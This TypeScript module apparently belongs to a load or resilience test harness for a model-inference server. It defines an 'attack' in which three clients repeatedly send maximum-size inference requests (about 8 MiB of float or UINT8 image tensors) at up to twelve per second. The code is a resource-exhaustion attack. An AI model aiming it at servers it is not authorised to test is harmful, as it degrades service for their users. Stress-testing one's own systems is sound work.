// Three clients, each with one request of about 2,700 images after the other, as large as a body may be: at most twelve per second together.
import { type Attack, turns } from '../attack';
import { bytes, float, imageLength, inferPath } from '../networks';
import { rawHeaders, send } from '../requests';

const maxBody = 8 << 20;
const floats = () => {
  const image = 4 * imageLength(float);
  return { path: inferPath(float), headers: rawHeaders, body: Buffer.alloc(image * Math.floor(maxBody / image)) };
};
const pixels = () => {
  const images = Math.floor((maxBody - 1000) / imageLength(bytes));
  const size = images * imageLength(bytes);
  const input = { name: 'input', datatype: 'UINT8', shape: [images, ...bytes.shape], parameters: { binary_data_size: size } };
  const json = Buffer.from(JSON.stringify({ inputs: [input], parameters: { binary_data_output: true } }));
  const headers = { 'inference-header-content-length': json.length };
  return { path: inferPath(bytes), headers, body: Buffer.concat([json, Buffer.alloc(size)]) };
};

export const attack: Attack = (target, tally) => {
  const requests = [floats(), pixels()];
  return async (signal) => {
    const client = async (i: number): Promise<void> => {
      for await (const _ of turns(4, signal)) await send(target, tally, requests[i % 2]!);
    };
    await Promise.all([0, 1, 2].map(client));
  };
};
